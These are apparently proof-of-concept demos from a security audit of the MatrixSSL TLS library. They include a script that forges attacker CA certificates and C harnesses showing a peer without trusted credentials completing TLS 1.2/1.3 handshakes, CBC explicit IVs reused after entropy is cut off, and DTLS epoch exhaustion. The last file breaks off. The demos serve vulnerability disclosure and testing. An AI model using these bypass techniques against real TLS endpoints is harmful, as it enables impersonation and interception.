                i ? v_tls_1_2 : v_tls_1_3, 1);
        if (r <= 0 || g_lastAlert != SSL_ALERT_CERTIFICATE_EXPIRED)
        {
            printf("CONTROL FAILED: an expired-only chain must reach the "
                "callback as certificate_expired and the override must "
                "work\n");
            ctl++;
        }
        g_cb = strictCb;
        r = run("control: only expired, trusted CA, strict cb",
                i ? v_tls_1_2 : v_tls_1_3, 1);
        if (r != 0 || g_lastAlert != SSL_ALERT_CERTIFICATE_EXPIRED)
        {
            printf("CONTROL FAILED: expired-only chain with a strict callback "
                "must fail with certificate_expired\n");
            ctl++;
        }
        g_cb = NULL;
    }
    g_chain = TK "EC/256_EC.pem";
    g_key = TK "EC/256_EC_KEY.pem";
    g_name = "localhost";
    g_cb = strictCb;
    for (i = 0; i < 2; i++)
    {
        r = run("control: honest valid chain, strict cb",
                i ? v_tls_1_2 : v_tls_1_3, 1);
        if (r <= 0 || g_lastAlert != 0)
        {
            printf("CONTROL FAILED: honest handshake with REVALIDATE_DATES\n");
            ctl++;
        }
    }
    g_chain = CERTS "leaf3_chain.pem";
    g_key = CERTS "leaf3_key.pem";
    g_name = "victim.example.com";
    g_cb = NULL;
    if (ctl == 0)
    {
        printf("CONTROLS OK\n");
    }

    r = run("expiry-forgiving cb, REVALIDATE_DATES", v_tls_1_3, 1);
    if (r == 0)
    {
        printf("OK: TLS 1.3 callback was told %d, handshake refused\n",
            g_lastAlert);
    }
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.3 client: callback that only tolerates "
            "expiry was told certificate_expired(45) for a chain under an "
            "untrusted self-made root; handshake completed\n");
        v++;
    }
    r = run("expiry-forgiving cb, REVALIDATE_DATES", v_tls_1_2, 1);
    if (r == 0)
    {
        printf("OK: TLS 1.2 callback was told %d, handshake refused\n",
            g_lastAlert);
    }
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.2 client: callback that only tolerates "
            "expiry was told certificate_expired(45) for a chain under an "
            "untrusted self-made root; handshake completed\n");
        v++;
    }
    matrixSslClose();
    if (ctl)
    {
        return 3;
    }
    return v ? 1 : 0;
}
