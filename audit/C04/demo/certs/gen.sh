#!/bin/sh
# Regenerates the adversary credentials used by the demos (needs OpenSSL >= 3.4
# for -not_before).  The generated files are checked in next to this script;
# build.sh does not call it.
set -e
cd "$(dirname "$0")"
cat > evil.cnf <<EOC
[req]
distinguished_name=dn
prompt=no
[dn]
CN=placeholder
[v3_oldca]
basicConstraints=critical,CA:TRUE
subjectKeyIdentifier=hash
[v3_ca]
basicConstraints=critical,CA:TRUE
keyUsage=critical,keyCertSign,cRLSign
subjectKeyIdentifier=hash
[v3_leaf]
basicConstraints=CA:FALSE
keyUsage=critical,digitalSignature
extendedKeyUsage=serverAuth,clientAuth
subjectAltName=DNS:victim.example.com
authorityKeyIdentifier=keyid
EOC
# 1. "OldCA": attacker-made, self-signed, CA:TRUE, NO keyUsage, notBefore in 1995
openssl ecparam -name prime256v1 -genkey -noout -out oldca_key.pem
openssl req -new -x509 -key oldca_key.pem -sha256 -subj "/C=XX/O=Attacker/CN=Attacker Old CA" \
  -not_before 19950101000000Z -not_after 20450101000000Z \
  -config evil.cnf -extensions v3_oldca -out oldca.pem
# 2. leaf for victim.example.com issued by OldCA
openssl ecparam -name prime256v1 -genkey -noout -out leaf_key.pem
openssl req -new -key leaf_key.pem -subj "/C=XX/O=Attacker/CN=victim.example.com" -config evil.cnf -out leaf.csr
openssl x509 -req -in leaf.csr -CA oldca.pem -CAkey oldca_key.pem -sha256 -set_serial 2 \
  -not_before 20250101000000Z -not_after 20450101000000Z \
  -extfile evil.cnf -extensions v3_leaf -out leaf.pem
cat leaf.pem oldca.pem > leaf_chain.pem
# 3. plain self-signed modern root + leaf (for the "no trust anchors" demo)
openssl ecparam -name prime256v1 -genkey -noout -out selfca_key.pem
openssl req -new -x509 -key selfca_key.pem -sha256 -subj "/C=XX/O=Attacker/CN=Attacker Root" \
  -not_before 20250101000000Z -not_after 20450101000000Z \
  -config evil.cnf -extensions v3_ca -out selfca.pem
openssl ecparam -name prime256v1 -genkey -noout -out leaf2_key.pem
openssl req -new -key leaf2_key.pem -subj "/C=XX/O=Attacker/CN=victim.example.com" -config evil.cnf -out leaf2.csr
openssl x509 -req -in leaf2.csr -CA selfca.pem -CAkey selfca_key.pem -sha256 -set_serial 3 \
  -not_before 20250101000000Z -not_after 20450101000000Z \
  -extfile evil.cnf -extensions v3_leaf -out leaf2.pem
cat leaf2.pem selfca.pem > leaf2_chain.pem
# 4. EXPIRED leaf (2020-2021) under the same self-made root (demo4)
openssl ecparam -name prime256v1 -genkey -noout -out leaf3_key.pem
openssl req -new -key leaf3_key.pem -subj "/C=XX/O=Attacker/CN=victim.example.com" -config evil.cnf -out leaf3.csr
openssl x509 -req -in leaf3.csr -CA selfca.pem -CAkey selfca_key.pem -sha256 -set_serial 4 \
  -not_before 20200101000000Z -not_after 20210101000000Z \
  -extfile evil.cnf -extensions v3_leaf -out leaf3.pem
cat leaf3.pem selfca.pem > leaf3_chain.pem
# 5. control for demo4: EXPIRED leaf (2020-2021) issued by the TRUSTED test CA
#    (testkeys/EC/256_EC_CA.pem, its key is in the tree): expiry is its only defect
TK=../../../testkeys/EC
openssl ecparam -name prime256v1 -genkey -noout -out leaf4_key.pem
openssl req -new -key leaf4_key.pem -subj "/C=XX/O=Honest/CN=victim.example.com" -config evil.cnf -out leaf4.csr
openssl x509 -req -in leaf4.csr -CA $TK/256_EC_CA.pem -CAkey $TK/256_EC_CA_KEY.pem -sha256 -set_serial 5 \
  -not_before 20200101000000Z -not_after 20210101000000Z \
  -extfile evil.cnf -extensions v3_leaf -out leaf4.pem
rm -f leaf.csr leaf2.csr leaf3.csr leaf4.csr
