/*
 * demo1: a peer that holds NO credential issued by any trusted CA is fully
 * authenticated.
 *
 * The adversary makes its own CA certificate "Attacker Old CA" (self-signed,
 * basicConstraints CA:TRUE, no keyUsage extension, notBefore = 1995) and uses
 * it to issue a leaf for victim.example.com.  It presents [leaf, OldCA].
 *
 * crypto/keyformat/x509.c psX509AuthenticateCert(): after the leaf's signature
 * verified under OldCA's key, the keyUsage test calls issuedBefore(RFC_3280,
 * OldCA) which returns -1 for a notBefore year < 1996; the function then does
 * "return PS_PARSE_FAIL" WITHOUT setting sc->authStatus (it stays 0).
 * matrixValidateCertsExt() returns that error at once: the chain is never
 * compared with the trust anchors, the name is never checked.
 *
 *  - TLS 1.3 (tls13Authenticate.c matrixSslValidatePeerCerts) ignores every
 *    return code except PS_MEM_FAIL and only looks at authStatus -> no alert,
 *    handshake completes even with NO certificate callback.
 *  - TLS <= 1.2 (hsDecode.c parseCertificate) turns rc < 0 with ssl->err == 0
 *    into bad_certificate only when there is no callback; a registered
 *    callback is called with alert == 0 ("validation passed").
 */
#include "common.h"

/* Scenario knobs: which adversary chain, and whether the victim client passes
   the option combination that matrixValidateCertsExt refuses (PS_ARG_FAIL) */
static const char *g_advChain = CERTS "leaf_chain.pem";
static const char *g_advKey = CERTS "leaf_key.pem";
static int g_badOptionCombo;

static int run(const char *label, psProtocolVersion_t ver, int victimIsServer,
        sslCertCb_t victimCb)
{
    sslKeys_t *vKeys = NULL, *aKeys;
    sslSessOpts_t vOpts, aOpts;
    side_t cli, svr, *victim;
    sslSessionId_t *sid = NULL;
    int32 rc;
    int bad;

    memset(&cli, 0, sizeof(cli));
    memset(&svr, 0, sizeof(svr));
    memset(&vOpts, 0, sizeof(vOpts));
    memset(&aOpts, 0, sizeof(aOpts));
    cli.name = "client";
    svr.name = "server";
    g_cbAlert[0] = g_cbAlert[1] = -1;
    g_cbCalls[0] = g_cbCalls[1] = 0;

    /* Victim: honest application, trust anchor = the test EC CA.  As a
       server it also needs its own (honest) identity. */
    matrixSslNewKeys(&vKeys, NULL);
    if (victimIsServer)
    {
        rc = matrixSslLoadEcKeys(vKeys, TK "EC/256_EC.pem",
                TK "EC/256_EC_KEY.pem", NULL, TK "EC/256_EC_CA.pem");
    }
    else
    {
        rc = matrixSslLoadEcKeys(vKeys, NULL, NULL, NULL,
                TK "EC/256_EC_CA.pem");
    }
    if (rc < 0)
    {
        printf("%s: victim key load failed %d\n", label, rc);
        return -1;
    }
    /* Adversary: its own chain, trusts the victim's CA (irrelevant) */
    aKeys = adversaryEcKeys(g_advChain, g_advKey, TK "EC/256_EC_CA.pem");
    if (aKeys == NULL)
    {
        return -1;
    }

    setVersion(&vOpts, victimIsServer, ver);
    if (g_badOptionCombo)
    {
        /* "match the dNSName SAN only" together with "always also check the
           CN": matrixValidateCertsExt() answers PS_ARG_FAIL before looking at
           any certificate */
        vOpts.validateCertsOpts.nameType = NAME_TYPE_SAN_DNS;
        vOpts.validateCertsOpts.mFlags = VCERTS_MFLAG_ALWAYS_CHECK_SUBJECT_CN;
    }
    setVersion(&aOpts, !victimIsServer, ver);

    if (victimIsServer)
    {
        rc = matrixSslNewServerSession(&svr.ssl, vKeys, victimCb, &vOpts);
        if (rc < 0)
        {
            printf("%s: NewServerSession %d\n", label, rc);
            return -1;
        }
        if (victimCb == NULL)
        {
            /* client authentication without an application callback */
            matrixSslSetSessionOption(svr.ssl, SSL_OPTION_ENABLE_CLIENT_AUTH,
                NULL);
        }
        matrixSslNewSessionId(&sid, NULL);
        rc = matrixSslNewClientSession(&cli.ssl, aKeys, sid, NULL, 0,
                strictCb, NULL, NULL, NULL, &aOpts);
        /* the adversary client does not care who the server is */
        if (rc >= 0)
        {
            matrixSslRegisterClientIdentityCallback(cli.ssl, anyIdentityCb);
        }
        victim = &svr;
    }
    else
    {
        rc = matrixSslNewServerSession(&svr.ssl, aKeys, NULL, &aOpts);
        if (rc < 0)
        {
            printf("%s: NewServerSession %d\n", label, rc);
            return -1;
        }
        matrixSslNewSessionId(&sid, NULL);
        rc = matrixSslNewClientSession(&cli.ssl, vKeys, sid, NULL, 0,
                victimCb, "victim.example.com", NULL, NULL, &vOpts);
        victim = &cli;
    }
    if (rc < 0)
    {
        printf("%s: NewClientSession %d\n", label, rc);
        return -1;
    }

    pump(&cli, &svr);

    bad = victim->complete && matrixSslHandshakeIsComplete(victim->ssl);
    {
        side_t *adv = victimIsServer ? &cli : &svr;
        printf("%-40s %s %s: complete=%d err=%d alert-sent-to-peer=%d "
            "callback-calls=%d callback-alert=%d (adversary: complete=%d "
            "err=%d)\n",
            label, verName(victim->ssl), victim->name, victim->complete,
            victim->error, adv->alertDesc,
            g_cbCalls[victimIsServer], g_cbAlert[victimIsServer],
            adv->complete, adv->error);
    }
    if (bad)
    {
        /* show that the adversary really talks to the victim */
        unsigned char *buf;
        side_t *adv = victimIsServer ? &cli : &svr;
        int32 n = matrixSslGetWritebuf(adv->ssl, &buf, 5);
        if (n >= 5)
        {
            memcpy(buf, "owned", 5);
            matrixSslEncodeWritebuf(adv->ssl, 5);
            pump(&cli, &svr);
        }
        printf("    -> victim accepted %d application record(s) from the "
            "unauthenticated peer\n", victim->appRecords);
    }

    matrixSslDeleteSession(cli.ssl);
    matrixSslDeleteSession(svr.ssl);
    matrixSslDeleteSessionId(sid);
    matrixSslDeleteKeys(vKeys);
    matrixSslDeleteKeys(aKeys);
    return bad;
}

int main(void)
{
    int v = 0, r;
    psX509Cert_t *chain = NULL, *ca = NULL, *found = NULL, *c;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }

    /* Direct call of the validation API first */
    psX509ParseCertFile(NULL, CERTS "leaf_chain.pem", &chain, 0);
    psX509ParseCertFile(NULL, TK "EC/256_EC_CA.pem", &ca, 0);
    r = matrixValidateCerts(NULL, chain, ca, "victim.example.com", &found,
            NULL, NULL);
    printf("matrixValidateCerts([leaf, Attacker Old CA], trusted=256_EC_CA) "
        "= %d;", r);
    for (c = chain; c != NULL; c = c->next)
    {
        printf(" authStatus(%s)=%d", c->subject.commonName, c->authStatus);
    }
    printf("\n");
    psX509FreeCert(chain);
    psX509FreeCert(ca);

    r = run("client, no callback", v_tls_1_3, 0, NULL);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.3 client without a certificate callback "
            "completed the handshake with a server whose chain ends in an "
            "attacker-made CA (not a trust anchor)\n");
        v++;
    }
    r = run("client, strict callback (returns alert)", v_tls_1_3, 0, strictCb);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.3 client, callback was told alert 0 for the "
            "untrusted chain and the handshake completed\n");
        v++;
    }
    r = run("client, strict callback (returns alert)", v_tls_1_2, 0, strictCb);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.2 client, callback was told alert 0 for the "
            "untrusted chain and the handshake completed\n");
        v++;
    }
    r = run("client, no callback (contrast)", v_tls_1_2, 0, NULL);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.2 client without callback completed\n");
        v++;
    }
    r = run("server (client auth), strict callback", v_tls_1_3, 1, strictCb);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.3 server requiring client authentication "
            "accepted a client whose chain ends in an attacker-made CA\n");
        v++;
    }
    r = run("server (client auth), strict callback", v_tls_1_2, 1, strictCb);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.2 server requiring client authentication "
            "accepted a client whose chain ends in an attacker-made CA\n");
        v++;
    }
    r = run("server (client auth), no callback", v_tls_1_3, 1, NULL);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.3 server (client auth enabled by option, no "
            "callback) accepted the attacker's client chain\n");
        v++;
    }

    /* Same root cause on the TLS 1.3 side (return code of
       matrixValidateCertsExt ignored), other trigger: an option combination
       the validator refuses.  The adversary needs nothing special: a leaf under
       a freshly made, perfectly ordinary self-signed root. */
    g_advChain = CERTS "leaf2_chain.pem";
    g_advKey = CERTS "leaf2_key.pem";
    g_badOptionCombo = 1;
    r = run("client, no cb, refused option combo", v_tls_1_3, 0, NULL);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.3 client (no callback) whose validation "
            "options make matrixValidateCertsExt return PS_ARG_FAIL performed "
            "no validation at all and completed with a self-made root\n");
        v++;
    }
    r = run("client, no cb, refused option combo (contrast)", v_tls_1_2, 0,
            NULL);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.2 client completed\n");
        v++;
    }

    matrixSslClose();
    return v ? 1 : 0;
}
