#!/bin/sh
# Builds every demo against the static libraries of the (unmodified) worktree.
# Run `make -j8` at the worktree top level first.
set -e
HERE="$(cd "$(dirname "$0")" && pwd)"
TOP="${TOP:-$(cd "$HERE/../.." && pwd)}"
CFLAGS="-O1 -g -Wall -Wno-unused-function \
 -I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include \
 -I$TOP/core/include/sfzcl -I$TOP -DUSE_CL_PKCS -DUSE_CL_CERTLIB -DTOP=\"$TOP\""
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
for src in "$HERE"/demo[0-9]*.c; do
    exe="${src%.c}"
    extra=""
    [ -f "$exe.ldflags" ] && extra="$(cat "$exe.ldflags")"
    echo "cc $(basename "$src")"
    cc $CFLAGS -o "$exe" "$src" $LIBS $extra
done
