/*
 * Shared helpers for the C04 audit demos: two in-memory MatrixSSL sessions
 * (client and server) connected through their own in/out buffers.
 * Only public API is used for the side under test (the verifying side).
 * The adversary side is also built from the library, but may use internal
 * entry points to load credentials an honest application could not load.
 */
#ifndef C04_COMMON_H
#define C04_COMMON_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslImpl.h"

#ifndef TOP
# define TOP "/tmp/seed-C04"
#endif
#define CERTS TOP "/audit-out/demo/certs/"
#define TK    TOP "/testkeys/"

/* Not declared in a header but exported by libssl_s.a (matrixsslKeys.c) */
extern sslIdentity_t *matrixSslMakeIdentity(psPool_t *pool, psPubKey_t idkey,
        psX509Cert_t *cert);
extern sslIdentity_t *matrixSslAddIdentity(sslKeys_t *keys,
        sslIdentity_t *identity);

typedef struct
{
    ssl_t *ssl;
    const char *name;
    int complete;       /* MATRIXSSL_HANDSHAKE_COMPLETE was returned */
    int error;          /* negative return code seen */
    int alertLevel, alertDesc; /* alert received from the peer */
    int appRecords;     /* application data records delivered */
} side_t;

static int g_cbAlert[2] = { -1, -1 }; /* alert given to callback [0]=client [1]=server */
static int g_cbCalls[2];

/* "strict" callback: accept exactly what the library accepted */
static int32 strictCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    int i = (ssl->flags & SSL_FLAGS_SERVER) ? 1 : 0;
    g_cbAlert[i] = alert;
    g_cbCalls[i]++;
    return alert;
}

/* Adversary client: present the loaded chain whatever CA names the server
   lists in its CertificateRequest */
static int32_t anyIdentityCb(ssl_t *ssl, const sslKeySelectInfo_t *info)
{
    (void) info;
    ssl->chosenIdentity = ssl->keys->identity;
    ssl->sec.certMatch = 1;
    return PS_SUCCESS;
}

static void noteRc(side_t *s, int32 rc)
{
    if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
    {
        s->complete = 1;
    }
    else if (rc < 0 && s->error == 0)
    {
        s->error = rc;
    }
}

/* Deliver everything `from` wants to send into `to`. Returns bytes moved. */
static int deliver(side_t *from, side_t *to)
{
    unsigned char *out, *in;
    int32 len, room, rc, moved = 0;
    uint32 plen;
    unsigned char *pt;

    while ((len = matrixSslGetOutdata(from->ssl, &out)) > 0)
    {
        int32 off = 0;
        while (off < len)
        {
            int32 n;
            room = matrixSslGetReadbuf(to->ssl, &in);
            if (room <= 0)
            {
                to->error = to->error ? to->error : -1000;
                return moved;
            }
            n = (len - off < room) ? len - off : room;
            memcpy(in, out + off, n);
            off += n;
            moved += n;
            rc = matrixSslReceivedData(to->ssl, n, &pt, &plen);
            for (;; )
            {
                noteRc(to, rc);
                if (rc == MATRIXSSL_RECEIVED_ALERT)
                {
                    to->alertLevel = pt[0];
                    to->alertDesc = pt[1];
                    rc = matrixSslProcessedData(to->ssl, &pt, &plen);
                    continue;
                }
                if (rc == MATRIXSSL_APP_DATA)
                {
                    to->appRecords++;
                    rc = matrixSslProcessedData(to->ssl, &pt, &plen);
                    continue;
                }
                break;
            }
            if (rc < 0)
            {
                break;
            }
        }
        rc = matrixSslSentData(from->ssl, len);
        noteRc(from, rc);
        if (to->error)
        {
            break;
        }
    }
    return moved;
}

/* Run both sides until neither has anything to send. */
static void pump(side_t *c, side_t *s)
{
    int i, moved;

    for (i = 0; i < 50; i++)
    {
        moved = deliver(c, s);
        moved += deliver(s, c);
        if (moved == 0)
        {
            break;
        }
    }
}

static const char *verName(ssl_t *ssl)
{
    if (ssl == NULL)
    {
        return "?";
    }
    if (NGTD_VER(ssl, v_tls_1_3_any))
    {
        return "TLS1.3";
    }
    if (NGTD_VER(ssl, v_tls_1_2))
    {
        return "TLS1.2";
    }
    if (NGTD_VER(ssl, v_dtls_1_2))
    {
        return "DTLS1.2";
    }
    return "other";
}

/* Adversary credentials: a certificate chain file + EC private key, loaded
   without the sanity checks of matrixSslLoadKeys (an attacker is not bound
   by them). */
static sslKeys_t *adversaryEcKeys(const char *chainFile, const char *keyFile,
        const char *caFile)
{
    sslKeys_t *keys = NULL;
    psX509Cert_t *chain = NULL;
    psPubKey_t key;

    if (matrixSslNewKeys(&keys, NULL) < 0)
    {
        return NULL;
    }
    if (caFile != NULL &&
        matrixSslLoadEcKeys(keys, NULL, NULL, NULL, caFile) < 0)
    {
        printf("adversary: CA load failed\n");
        return NULL;
    }
    if (psX509ParseCertFile(keys->pool, chainFile, &chain, CERT_STORE_UNPARSED_BUFFER) < 0)
    {
        printf("adversary: cannot parse %s\n", chainFile);
        return NULL;
    }
    memset(&key, 0, sizeof(key));
    psInitPubKey(keys->pool, &key, PS_ECC);
    if (psEccParsePrivFile(keys->pool, keyFile, NULL, &key.key.ecc) < 0)
    {
        printf("adversary: cannot parse %s\n", keyFile);
        return NULL;
    }
    key.keysize = psEccSize(&key.key.ecc);
    matrixSslAddIdentity(keys, matrixSslMakeIdentity(keys->pool, key, chain));
    return keys;
}

static void setVersion(sslSessOpts_t *o, int isServer, psProtocolVersion_t v)
{
    psProtocolVersion_t vers[1];

    vers[0] = v;
    if (isServer)
    {
        matrixSslSessOptsSetServerTlsVersions(o, vers, 1);
    }
    else
    {
        matrixSslSessOptsSetClientTlsVersions(o, vers, 1);
    }
}

#endif
