/* C17 demo 3: a failing random source leaves the "explicit IV" of CBC records
   to whatever is in the output buffer.

   writeRecordHeader() (sslEncode.c, both explicit-IV branches) and
   fragmentHSMessage() (dtls.c) call psGetPrngLocked() for the per-record random
   block and only trace a warning when it fails; the record is built and sent
   anyway.  The block then consists of the bytes that happen to lie in
   ssl->outbuf at that position: after the buffer has been flushed once, that is
   the ciphertext of the record sent before (public), for a fresh buffer it is
   heap content.  The explicit IV is not newly drawn and it is a copy of earlier
   ciphertext.

   The failure is produced without touching the library: after the handshake
   the process loses its /dev/urandom and /dev/random descriptors and cannot
   open new ones (RLIMIT_NOFILE), which is what psGetEntropy() (osdep.c) sees
   in a descriptor-starved or chroot'ed process.  The random block is observed
   by interposing on psAesEncryptCBC at link time. */
#include "harness.h"
#include <unistd.h>
#include <sys/resource.h>

static unsigned char g_sent[8192];
static int g_nsent;
static int g_watch;
static unsigned char g_R[8][16];
static int g_nR;

void __real_psAesEncryptCBC(psAesCbc_t *ctx, const unsigned char *pt, unsigned char *ct,
    uint32_t len);
void __wrap_psAesEncryptCBC(psAesCbc_t *ctx, const unsigned char *pt, unsigned char *ct,
    uint32_t len)
{
    if (g_watch && len >= 16 && g_nR < 8)
    {
        /* application records are encrypted in one call: the first block of
           the CBC input is the per-record random block */
        memcpy(g_R[g_nR++], pt, 16);
    }
    __real_psAesEncryptCBC(ctx, pt, ct, len);
}

static void take_outdata(ssl_t *ssl, const char *what)
{
    unsigned char *buf;
    int32 len = matrixSslGetOutdata(ssl, &buf);
    char h[33];
    if (len > 0)
    {
        if (len >= 21)
        {
            hex(buf + 5, 16, h);
            printf("  %s on the wire: %d bytes, first ciphertext block (IV field) %s\n", what, len, h);
        }
        if (g_nsent + len <= (int) sizeof(g_sent))
        {
            memcpy(g_sent + g_nsent, buf, len);
            g_nsent += len;
        }
        matrixSslSentData(ssl, len);
    }
}

static int break_entropy(void)
{
    int fd, lowest = -1, n = 0;
    char path[64], target[256];
    struct rlimit rl;

    for (fd = 3; fd < 256; fd++)
    {
        ssize_t l;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        l = readlink(path, target, sizeof(target) - 1);
        if (l <= 0)
        {
            continue;
        }
        target[l] = 0;
        if (!strcmp(target, "/dev/urandom") || !strcmp(target, "/dev/random"))
        {
            close(fd);
            n++;
            if (lowest < 0)
            {
                lowest = fd;
            }
        }
    }
    if (lowest < 0)
    {
        return -1;
    }
    rl.rlim_cur = rl.rlim_max = lowest; /* no descriptor >= lowest can be opened */
    setrlimit(RLIMIT_NOFILE, &rl);
    return n;
}

int main(int argc, char **argv)
{
    sslKeys_t *ck, *sk;
    ssl_t *c, *s;
    sslSessionId_t *sid;
    sslSessOpts_t o;
    psCipher16_t suite = TLS_RSA_WITH_AES_128_CBC_SHA;
    unsigned char probe[16];
    char h[33];
    int i, j, k, viol = 0;
    int32 rc;

    g_verbose = argc > 1;
    matrixSslOpen();
    ck = load_rsa_keys(0);
    sk = load_rsa_keys(1);
    matrixSslNewSessionId(&sid, NULL);
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_2;
    matrixSslNewServerSession(&s, sk, NULL, &o);
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_2;
    matrixSslNewClientSession(&c, ck, sid, &suite, 1, certCb, NULL, NULL, NULL, &o);
    rc = pump(c, s, NULL);
    printf("TLS 1.2 TLS_RSA_WITH_AES_128_CBC_SHA handshake: rc=%d client %d server %d\n", rc,
        matrixSslHandshakeIsComplete(c), matrixSslHandshakeIsComplete(s));

    g_watch = 1;
    rc = send_app(c, "record one: random source healthy", 33);
    printf("record 1 encoded, rc=%d\n", rc);
    take_outdata(c, "record 1");

    i = break_entropy();
    rc = psGetPrngLocked(probe, sizeof(probe), NULL);
    printf("[entropy descriptors closed: %d; psGetPrngLocked now returns %d]\n", i, rc);

    rc = send_app(c, "record two: random source is gone", 33);
    printf("record 2: matrixSslEncodeWritebuf rc=%d (%s)\n", rc, rc < 0 ? "refused" : "no error reported");
    take_outdata(c, "record 2");
    rc = send_app(c, "record 3: random source still gone", 34);
    printf("record 3: matrixSslEncodeWritebuf rc=%d (%s)\n", rc, rc < 0 ? "refused" : "no error reported");
    take_outdata(c, "record 3");

    for (i = 0; i < g_nR; i++)
    {
        hex(g_R[i], 16, h);
        printf("  random block R of record %d (CBC input block 0): %s\n", i + 1, h);
    }
    /* R must be fresh: never a copy of bytes that were already sent */
    for (i = 1; i < g_nR; i++)
    {
        int off = 0, recno = 0;
        /* bytes sent before record i+1 */
        int upto = 0;
        for (k = 0, off = 0; k < i && off + 5 <= g_nsent; k++)
        {
            off += 5 + ((g_sent[off + 3] << 8) | g_sent[off + 4]);
        }
        upto = off;
        for (j = 0; j + 16 <= upto; j++)
        {
            if (!memcmp(g_sent + j, g_R[i], 16))
            {
                /* which record is j in */
                for (off = 0, recno = 1; off + 5 <= upto; recno++)
                {
                    int l = 5 + ((g_sent[off + 3] << 8) | g_sent[off + 4]);
                    if (j < off + l) { break; }
                    off += l;
                }
                printf("VIOLATION: the per-record random block (explicit IV input) of CBC record %d is "
                    "not fresh: it is a copy of bytes %d..%d of record %d as sent earlier "
                    "(that record's first ciphertext block)\n", i + 1, j - off,
                    j - off + 15, recno);
                viol++;
                break;
            }
        }
    }
    for (i = 0; i < g_nR; i++)
    {
        for (j = i + 1; j < g_nR; j++)
        {
            if (!memcmp(g_R[i], g_R[j], 16))
            {
                printf("VIOLATION: CBC records %d and %d use the same random block\n", i + 1, j + 1);
                viol++;
            }
        }
    }
    if (viol == 0)
    {
        printf("OK: %d record(s) were built, each with a fresh random block; nothing was sealed "
            "without one\n", g_nR);
    }
    return viol ? 1 : 0;
}
