/* directed: server of a full DTLS handshake re-sends its last flight until the epochs run out */
#define main explore_main
#include "exploredtls.c"
#undef main
int main(int argc, char **argv)
{
    sslKeys_t *ck, *sk; sslSessionId_t *sid; int i, n = 0, who;
    matrixSslOpen(); matrixDtlsSetPmtu(1400);
    ck = load_rsa_keys(0); sk = load_rsa_keys(1);
    for (who = 0; who < 2; who++) {
    g_suite = TLS_RSA_WITH_AES_128_GCM_SHA256;
    matrixSslNewSessionId(&sid, NULL);
    seal_reset(); g_nwire[0] = g_nwire[1] = 0;
    setup(ck, sk, sid, SSL_FLAGS_TLS_1_2, 0);
    flush(0,0,0);
    for (i = 0; i < 20; i++) { deliver_one(1); flush(1,0,0); deliver_one(0); flush(0,0,0); }
    printf("done c=%d s=%d\n", matrixSslHandshakeIsComplete(E[0].ssl), matrixSslHandshakeIsComplete(E[1].ssl));
    if (who == 1) { /* resumed: the client has the last flight */
        teardown(); seal_reset(); g_nwire[0] = g_nwire[1] = 0;
        setup(ck, sk, sid, SSL_FLAGS_TLS_1_2, 0); flush(0,0,0);
        for (i = 0; i < 20; i++) { deliver_one(1); flush(1,0,0); deliver_one(0); flush(0,0,0); }
        printf("resumed done c=%d s=%d resumed=%d\n", matrixSslHandshakeIsComplete(E[0].ssl), matrixSslHandshakeIsComplete(E[1].ssl), !!(E[1].ssl->flags & SSL_FLAGS_RESUMED));
    }
    {
    int side = who == 0 ? 1 : 0;
    g_nwire[side] = 0; /* table too small for 65k resends: wire check off, seal log on */
    for (i = 0; i < 70000; i++) {
        unsigned char *buf; int32 len; int g = 0;
        while ((len = matrixDtlsGetOutdata(E[side].ssl, &buf)) > 0 && g++ < 8) { matrixDtlsSentData(E[side].ssl, len); n++; }
        if (i % 1000 == 0) { send_app(E[side].ssl, "x", 1); while ((len = matrixDtlsGetOutdata(E[side].ssl, &buf)) > 0) matrixDtlsSentData(E[side].ssl, len); }
    }
    printf("side %d epoch now %02x%02x largest %02x%02x, datagrams %d, seals %d, violations %d\n", side,
        E[side].ssl->epoch[0], E[side].ssl->epoch[1], E[side].ssl->largestEpoch[0], E[side].ssl->largestEpoch[1], n, g_nseals, g_violations);
    send_app(E[side].ssl, "after", 5);
    printf("violations %d\n", g_violations);
    }
    }
    return g_violations != 0;
}
