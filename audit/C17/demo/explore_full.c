/* exploration: SSL_FULL retries of ordinary TLS 1.3 flights (big certificates both sides, client auth, resumption + early data) */
#include "harness.h"
#include "testkeys/RSA/4096_RSA.h"
#include "testkeys/RSA/4096_RSA_KEY.h"
#include "testkeys/RSA/4096_RSA_CA.h"
static int g_app;
static void sink(ssl_t *r, unsigned char *p, uint32 l) { g_app += l; }
int main(int argc, char **argv)
{
    sslKeys_t *k = NULL; ssl_t *c, *s; sslSessionId_t *sid; sslSessOpts_t o;
    psCipher16_t suite = TLS_AES_256_GCM_SHA384; int32 rc; int round;
    unsigned char sym[32], mac[32], name[16];
    g_verbose = argc > 1;
    matrixSslOpen();
    matrixSslNewKeys(&k, NULL);
    rc = matrixSslLoadRsaKeysMem(k, RSA4096, RSA4096_SIZE, RSA4096KEY, RSA4096KEY_SIZE, RSA4096CA, RSA4096CA_SIZE);
    printf("keys %d\n", rc);
    memset(sym, 1, 32); memset(mac, 2, 32); memset(name, 3, 16);
    matrixSslLoadSessionTicketKeys(k, name, sym, 32, mac, 32);
    matrixSslNewSessionId(&sid, NULL);
    for (round = 0; round < 2; round++) {
        memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_3; o.tls13SessionMaxEarlyData = 16384;
        matrixSslNewServerSession(&s, k, certCb, &o);
        memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_3;
